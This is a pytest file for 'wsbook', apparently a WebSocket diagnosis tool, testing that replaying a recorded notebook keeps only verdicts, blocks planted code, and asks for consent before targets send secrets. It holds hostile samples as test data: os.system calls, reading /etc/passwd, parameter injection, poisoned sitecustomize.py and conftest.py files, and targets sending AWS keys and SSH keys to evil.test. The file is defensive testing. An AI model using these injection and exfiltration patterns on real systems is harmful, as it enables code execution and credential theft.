"""wsbook replay: our notebooks, the record's verdicts, nothing else of it; and what it says after a fix."""

import asyncio
import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from lab.lab_client import alive, family
from test_cli import wsbook
from websockets.asyncio.server import serve

from wsbook.case import Judgement
from wsbook.cli.trust import Allowed, require_allowed
from wsbook.errors import UsageError
from wsbook.record import Record
from wsbook.runner import notebook_folder
from wsbook.runner.replay import CHECKED, replay_copy, replay_notebooks
from wsbook.target import Target, parse_target
from wsbook.words import VERDICT_MIME

OURS = notebook_folder() / "01_initial_diagnosis.ipynb"
FAULT = {
    "text/plain": "1.3 direct test  fault  net.refused",
    VERDICT_MIME: {"steps": {"1.3": {"verdict": "fault", "causes": ["net.refused"]}}},
}


def code_cells(notebook: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {cell["id"]: cell for cell in notebook["cells"] if cell["cell_type"] == "code"}


def foreign(*cells: dict[str, Any]) -> dict[str, Any]:
    """Return somebody's notebook."""
    return {"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "source": "", **cell} for cell in cells]}


def shows(data: Any) -> list[dict[str, Any]]:
    return [{"output_type": "display_data", "metadata": {"step": "1.3"}, "data": data}]


def test_only_verdicts_are_taken_over() -> None:
    evil = {"id": "s13-verdict", "source": "import os; os.system('touch /tmp/x')", "outputs": shows({**FAULT, "text/html": "<script>"})}
    added = {"id": "more", "source": "open('/etc/passwd').read()", "outputs": []}
    picture = {"id": "s13-run", "source": "", "outputs": shows({"text/plain": "a plot"}), "metadata": {"tags": [CHECKED]}}
    copy = replay_copy(OURS, foreign(evil, added, picture), {"url": "ws://h/"})
    cells, ours = code_cells(copy.notebook), code_cells(json.loads(OURS.read_text()))
    assert list(cells) == [*list(ours)[:1], "injected-parameters", *list(ours)[1:]]
    assert {name: cell["source"] for name, cell in cells.items() if name in ours} == {
        name: "".join(c["source"]) for name, c in ours.items()
    }
    assert [output["data"] for output in cells["s13-verdict"]["outputs"]] == [FAULT]
    assert [name for name, cell in cells.items() if CHECKED in cell["metadata"]["tags"]] == ["s13-verdict"]
    assert {"01_initial_diagnosis:s13-verdict", "01_initial_diagnosis:more"} <= set(copy.edited)
    assert "01_initial_diagnosis:s14-verdict" in copy.unchecked


def test_our_own_notebook_is_of_this_version() -> None:
    copy = replay_copy(OURS, json.loads(OURS.read_text()), {})
    assert copy.edited == []
    assert copy.unchecked == ["01_initial_diagnosis:s12-verdict"]  # the only one of which the shipped notebook keeps no verdict


def test_without_a_notebook_nothing_is_compared() -> None:
    copy = replay_copy(OURS, None, {})
    assert copy.edited == []
    assert not any(cell["outputs"] or CHECKED in cell["metadata"]["tags"] for cell in code_cells(copy.notebook).values())


PARAMETERS = ["plain", "it's", 'a "quote"', "\n__import__('os').system('x')", "'''", "\\", "\u2028", "{marker}"]


@pytest.mark.parametrize("text", PARAMETERS)
def test_a_parameter_stays_a_text(text: str) -> None:
    given = {"url": text, "owned": True}
    source = code_cells(replay_copy(OURS, None, given).notebook)["injected-parameters"]["source"]
    namespace: dict[str, Any] = {"__builtins__": {}}
    exec(source, namespace)
    assert {name: namespace[name] for name in given} == given


SHAPES: list[Any] = [
    foreign({"id": "s13-verdict", "outputs": None}),
    foreign({"id": "s13-verdict", "outputs": [5, {"data": []}, {"data": {"text/html": "x"}}]}),
    foreign({"id": "s13-verdict", "source": ["a", 5], "outputs": 7}),
    {"cells": [5, None, [], {}, {"id": []}]},
]


@pytest.mark.parametrize("stored", SHAPES)
def test_a_notebook_of_another_shape_is_no_error(stored: dict[str, Any]) -> None:
    copy = replay_copy(OURS, stored, {})
    assert "01_initial_diagnosis:s13-verdict" in copy.unchecked


SECRET = ("the record sends env:AWS_KEY of this machine to evil.test; add --send-secrets", {"secrets": True})
TRUST: list[tuple[Target, str, dict[str, bool]]] = [
    (parse_target("ws://shop.test/ws"), "", {}),
    (parse_target("ws://shop.test/ws", trigger="POST http://shop.test/p {marker}"), "", {}),
    (parse_target("ws://shop.test/ws", trigger="RUN touch x {marker}"), "runs a command on this machine: touch x", {"command": True}),
    (parse_target("wss://evil.test/ws", headers=["X-Key: env:AWS_KEY"]), *SECRET),
    (parse_target("wss://evil.test/ws?k=${env:AWS_KEY}"), *SECRET),
    (parse_target("wss://evil.test/ws", message="{marker} ${env:AWS_KEY}"), *SECRET),
    (parse_target("wss://evil.test/ws", headers=["X-Key: ${file:/root/.ssh/id}"]), "sends file:/root/.ssh/id of this", {"secrets": True}),
    (parse_target("ws://127.0.0.1/ws", owned=True), "", {}),
    (parse_target("ws://shop.test/ws", owned=True), "shop.test is yours and may be sent load; add --i-own-this if", {"load": True}),
]


@pytest.mark.parametrize(("target", "said", "allow"), TRUST)
def test_what_needs_somebodys_word(target: Target, said: str, allow: dict[str, bool]) -> None:
    require_allowed(target, Allowed(**allow))
    if said:
        with pytest.raises(UsageError, match=re.escape(said)):
            require_allowed(target, Allowed())


def judged(folder: Path, target: Target, *steps: str) -> Path:
    """Make a record that finished these steps."""
    record = Record.create(folder, target)
    for step in steps:
        record.finish(step, 0.1)
    record.write_json("findings.json", Judgement(target=target, findings=(), steps=()).document())
    return folder


def test_files_that_are_gone_are_one_sentence(tmp_path: Path, monkeypatch, capsys) -> None:
    target = parse_target("", configs=[str(tmp_path / "nginx.conf")], logs=[str(tmp_path / "a.log")])
    code, out, err = wsbook(capsys, monkeypatch, "replay", str(judged(tmp_path / "record", target, "1.4")))
    assert (code, out) == (2, "")
    assert "the record looked at 2 files or folders that are not on this machine" in err
    assert "nginx.conf" in err and len(err.strip().splitlines()) == 1


def test_a_record_without_a_finished_step_is_one_sentence(tmp_path: Path, monkeypatch, capsys) -> None:
    code, _, err = wsbook(capsys, monkeypatch, "replay", str(judged(tmp_path / "record", parse_target("ws://127.0.0.1:9/"))))
    assert code == 2
    assert "no step that was finished" in err


def test_a_folder_with_something_in_it_is_not_written_to(tmp_path: Path, monkeypatch, capsys) -> None:
    folder = judged(tmp_path / "record", parse_target("ws://127.0.0.1:9/"), "1.3")
    code, _, err = wsbook(capsys, monkeypatch, "replay", str(folder), "--out", str(folder))
    assert code == 2
    assert "not an empty folder" in err


def test_an_nbval_that_does_not_start_says_why(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("wsbook.runner.replay._PYTEST", "raise SystemExit('nbval is broken here')")
    place = Record.create(tmp_path / "again", parse_target("ws://127.0.0.1:9/")).folder
    replayed = replay_notebooks(tmp_path / "record", {"url": "ws://127.0.0.1:9/"}, folder=place, steps=("2.2",))
    assert [run.name for run in replayed.summary.notebooks] == ["02_network_infrastructure", "05_findings"]
    assert {run.problem for run in replayed.summary.notebooks} == {"nbval did not run it: nbval is broken here"}
    assert (replayed.checks, replayed.summary.complete) == ((), False)
    assert json.loads((place / "run.json").read_text())["complete"] is False
    assert not list(place.glob(".*"))


class Relay:
    """A proxy in front of an application that echoes; broken, it passes no Upgrade on until it is mended."""

    def __init__(self) -> None:
        self.mended = False
        self.ports: tuple[int, int] = (0, 0)

    async def _pass(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while data := await reader.read(65536):
                writer.write(data)
                await writer.drain()
        except OSError:
            pass
        finally:
            writer.close()

    async def _client(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
        except (asyncio.IncompleteReadError, OSError, asyncio.LimitOverrunError):
            writer.close()
            return
        if not self.mended:
            head = b"\r\n".join(line for line in head.split(b"\r\n") if not line.lower().startswith((b"upgrade:", b"connection:")))
        up, down = await asyncio.open_connection("127.0.0.1", self.ports[0])
        down.write(head)
        await asyncio.gather(self._pass(reader, down), self._pass(up, writer))

    async def _serve(self, ready: threading.Event, stop: asyncio.Event) -> None:
        async def echo(socket: Any) -> None:
            async for message in socket:
                await socket.send(message)

        async with serve(echo, "127.0.0.1", 0) as app, await asyncio.start_server(self._client, "127.0.0.1", 0) as proxy:
            self.ports = (next(iter(app.sockets)).getsockname()[1], next(iter(proxy.sockets)).getsockname()[1])
            ready.set()
            await stop.wait()

    @contextmanager
    def running(self) -> Iterator[None]:
        ready, loop, stop = threading.Event(), asyncio.new_event_loop(), asyncio.Event()
        thread = threading.Thread(target=lambda: loop.run_until_complete(self._serve(ready, stop)))
        thread.start()
        try:
            assert ready.wait(10)
            yield
        finally:
            loop.call_soon_threadsafe(stop.set)
            thread.join(10)
            loop.close()


def command(*words: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "wsbook", *words], capture_output=True, text=True, timeout=200, check=False)


@pytest.mark.slow
def test_after_a_fix_it_shows_which_steps_changed(tmp_path: Path) -> None:
    relay, record, again = Relay(), tmp_path / "record", tmp_path / "again"
    with relay.running():
        app, proxy = (f"ws://127.0.0.1:{port}/" for port in relay.ports)
        assert command("run", proxy, "--hop", f"app={app}", "--steps", "1.3,2.2", "--out", str(record)).returncode == 1
        poison(record, tmp_path / "touched")
        same = command("replay", str(record))
        assert same.returncode == 0, same.stdout + same.stderr
        assert "1.3 direct test            same     fault" in same.stdout
        assert "ours were run: 01_initial_diagnosis:s13-run, 01_initial_diagnosis:poison" in same.stdout
        relay.mended = True
        changed = command("replay", str(record), "--out", str(again), "--json")
    assert not (tmp_path / "touched").exists()
    document = json.loads(changed.stdout)
    assert changed.returncode == 1
    assert [row["step"] for row in document["replayed"] if not row["same"]] == ["1.3", "2.2"]
    assert document["replayed"][1]["before"].startswith("fault")
    assert document["replayed"][1]["after"] == "clear"
    assert document["gone"] and document["new"] == []
    assert {"02_network_infrastructure:s22-verdict", "05_findings:roots-line"} <= set(document["cells"]["different"])
    assert document["incomplete"] == []
    assert "1.3 direct test            changed  fault" in changed.stderr
    assert {"report.html", "05_findings.ipynb", "findings.json"} <= {path.name for path in again.iterdir()}
    assert not [path for path in again.iterdir() if path.name.startswith(".nbval")]


def poison(record: Path, touched: Path) -> None:
    """Put code into a record's notebook, as somebody would who wants it run elsewhere."""
    path = record / "01_initial_diagnosis.ipynb"
    notebook = json.loads(path.read_text())
    evil = f"open({str(touched)!r}, 'w').close()\n"
    for cell in notebook["cells"]:
        if cell["id"] == "s13-run":
            cell["source"] = evil
    notebook["cells"].append({**code_cells(notebook)["s13-run"], "id": "poison"})
    path.write_text(json.dumps(notebook))
    for name in ("pandas.py", "sitecustomize.py", "conftest.py", "pytest.ini"):
        (record / name).write_text(evil)


@pytest.mark.slow
@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM, signal.SIGKILL], ids=lambda one: one.name)
def test_whatever_ends_a_replay_leaves_no_process(tmp_path: Path, signum: signal.Signals) -> None:
    record = Record.create(tmp_path / "record", parse_target("ws://127.0.0.1:9/"), lab="healthy")
    record.finish("1.3", 0.1)
    record.write_json("findings.json", Judgement(target=record.target(), findings=(), steps=()).document())
    words = [sys.executable, "-m", "wsbook", "replay", str(record.folder)]
    with subprocess.Popen(words, stdout=subprocess.PIPE, text=True, env={**os.environ, "TMPDIR": str(tmp_path)}) as running:
        assert running.stdout is not None
        assert "the lab, healthy" in running.stdout.readline()
        assert "1.3 direct test" in running.stdout.readline() + running.stdout.readline()
        everything = family(running.pid)
        assert len(everything) >= 7  # pytest, a kernel, the keeper, caddy and two instances besides the command
        running.send_signal(signum)
        running.wait(20)
    deadline = time.monotonic() + 15
    while any(map(alive, everything)) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not [pid for pid in everything if alive(pid)]
    if signum is not signal.SIGKILL:
        assert [path.name for path in tmp_path.iterdir() if path.name.startswith("wsbook-")] == []
